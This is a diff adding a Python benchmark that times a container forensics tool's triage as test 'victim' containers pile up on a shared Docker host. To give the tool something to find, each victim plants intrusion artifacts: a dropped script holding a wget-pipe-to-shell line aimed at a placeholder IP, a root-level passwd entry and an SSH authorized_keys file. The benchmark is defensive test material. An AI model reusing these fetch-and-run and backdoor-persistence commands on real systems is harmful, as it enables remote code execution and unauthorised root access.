@@ -1,0 +1,117 @@
+"""Benchmark: wall time of a whole triage as the host's containers grow.
+
+    python bench/triage_scale.py [--points 0 5 10 20 40]
+
+Adds busybox victims until the host holds each point's number of them, each from its own
+image (forensics-test/busybox plus one small layer, DOCKER_BUILDKIT=0) and with a few
+changed files (a dropped script in /tmp, an appended /etc/passwd line, an authorized_keys),
+then runs `forensics triage --root / --output TMP --json` natively with
+FORENSICS_MONITOR_SECONDS=1 (the process monitor watches 1 s instead of 5). No trivy
+vulnerability DB is used (trivy is not on this host's PATH: scan.trivy is skipped).
+
+The host is shared: the triage also reads the containers and images other people left on
+it, so the point with 0 victims is the fixed cost of this host, and the growth per victim
+is measured above it. Removes its containers, images and archives at the end.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+if __name__ == "__main__":
+    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from bench.common import (
+    FORENSICS,
+    LABEL,
+    Row,
+    build_image,
+    client,
+    remove_container,
+    remove_image,
+    run,
+    scratch_dir,
+)
+
+BASE = "forensics-test/busybox:latest"
+SCRIPT = (
+    "echo 'wget -q -O- http://203.0.113.9/x | sh' > /tmp/.x.sh && chmod +x /tmp/.x.sh && "
+    "echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd && mkdir -p /root/.ssh && "
+    "echo 'ssh-ed25519 AAAAbench bench' > /root/.ssh/authorized_keys && echo READY && exec sleep 3600"
+)
+
+
+def add_victim(cli: Any, i: int) -> tuple[Any, str]:
+    tag = f"forensics-bench/victim:{i}"
+    build_image(cli, f"FROM {BASE}\nCOPY marker /opt/marker-{i}\n", tag, {"marker": f"victim {i}\n".encode()})
+    box = cli.containers.run(tag, ["sh", "-c", SCRIPT], detach=True, name=f"forensics-bench-victim-{i}",
+                             labels={LABEL: "1"})  # fmt: skip
+    return box, tag
+
+
+def triage(work: Path) -> tuple[float, dict[str, Any]]:
+    out = work / f"out-{time.monotonic_ns()}"
+    env = dict(os.environ, FORENSICS_MONITOR_SECONDS="1")
+    start = time.perf_counter()
+    done = run([*FORENSICS, "triage", "--root", "/", "--output", str(out), "--json"], env=env, check=False)
+    seconds = time.perf_counter() - start
+    if done.returncode not in (0, 1):
+        raise RuntimeError(f"triage exited {done.returncode}: {done.stderr.decode(errors='replace')[-2000:]}")
+    return seconds, json.loads(done.stdout)
+
+
+def slowest(result: dict[str, Any], n: int = 3) -> str:
+    steps = sorted(result.get("steps", []), key=lambda s: -float(s.get("seconds") or 0))[:n]
+    return ", ".join(f"{s['name']} {float(s['seconds']):.1f} s" for s in steps)
+
+
+def rows(points: list[int]) -> list[Row]:
+    cli = client()
+    victims: list[tuple[Any, str]] = []
+    measured: list[tuple[int, float, int, str]] = []
+    try:
+        with scratch_dir("bench-triage-") as work:
+            for point in sorted(points):
+                while len(victims) < point:
+                    victims.append(add_victim(cli, len(victims)))
+                for box, _ in victims:
+                    box.reload()
+                    if box.status != "running" or b"READY" not in box.logs():
+                        time.sleep(0.5)
+                on_host = len(cli.containers.list(all=True))
+                seconds, result = triage(work)
+                measured.append((point, seconds, on_host, slowest(result)))
+    finally:
+        for box, tag in victims:
+            remove_container(box)
+            remove_image(cli, tag)
+        cli.close()
+    base = measured[0][1] if measured and measured[0][0] == 0 else None
+    out = []
+    for point, seconds, on_host, steps in measured:
+        per = (seconds - base) / point if base is not None and point else None
+        met = seconds <= 60 if point == 20 else None
+        out.append(Row("whole triage (monitor 1 s, no vuln DB)", f"{point} victims ({on_host} containers on host)",
+                       f"{seconds:.1f} s", "-", None, "20 victims <= 60 s" if point == 20 else "",
+                       met, (f"{per:.2f} s per victim over the empty point; " if per is not None else "")
+                       + f"slowest: {steps}"))  # fmt: skip
+    return out
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--points", type=int, nargs="+", default=[0, 5, 10, 20, 40])
+    args = parser.parse_args()
+    for row in rows(args.points):
+        print(f"{row.case}: {row.ours}; {row.note}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
